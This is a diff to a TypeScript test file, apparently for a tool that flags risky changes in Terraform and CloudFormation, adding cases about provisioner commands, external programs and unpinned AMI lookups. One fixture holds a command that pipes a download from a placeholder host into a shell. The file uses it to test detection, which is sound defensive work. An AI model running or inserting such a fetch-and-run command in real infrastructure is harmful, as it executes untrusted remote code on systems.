@@ -293,6 +293,33 @@ const ingress = (cidr: string): string =>
   );
 const skill = (secret: string): string =>
   `Resources:\n  It:\n    Type: Alexa::ASK::Skill\n    Properties:\n      AuthenticationConfiguration:\n        ClientSecret: "${secret}"\n`;
+const provisioner = (command: string): string =>
+  one("aws_instance", `provisioner "local-exec" {\n command = "${command}"\n}`);
+const COMMANDS: readonly Case[] = [
+  tf("a command where it is applied", one("aws_instance"), provisioner("./register.sh"), said("executes", "widen")),
+  tf("no command any more", provisioner("./register.sh"), one("aws_instance"), said("executes", "narrow")),
+  tf("another command", provisioner("./register.sh"), provisioner("./other.sh")),
+  tf(
+    "a download that runs",
+    one("aws_instance"),
+    provisioner("curl -s https://x.example/i.sh | sh"),
+    said("executes", "widen", "runs a command where it is applied"),
+    said("executes", "widen", "pipes a download into a shell"),
+  ),
+  tf(
+    "a program that is asked",
+    'data "external" "it" {\n  query = {}\n}\n',
+    'data "external" "it" {\n  program = ["python", "who.py"]\n  query = {}\n}\n',
+    said("executes", "widen"),
+  ),
+  tf(
+    "any image of that name",
+    'data "aws_ami" "it" {\n  owners = ["self"]\n}\n',
+    'data "aws_ami" "it" {\n}\n',
+    said("setting", "widen"),
+  ),
+];
+
 const TEMPLATES: readonly Case[] = [
   cfn(
     "a network without its log",
@@ -331,4 +358,4 @@ const TEMPLATES: readonly Case[] = [
   ),
 ];
 
-export const CLOUD_AMAZON_CASES: readonly Case[] = [...SPECIAL, ...POLICIES, ...MODULES, ...TEMPLATES];
+export const CLOUD_AMAZON_CASES: readonly Case[] = [...SPECIAL, ...POLICIES, ...MODULES, ...COMMANDS, ...TEMPLATES];
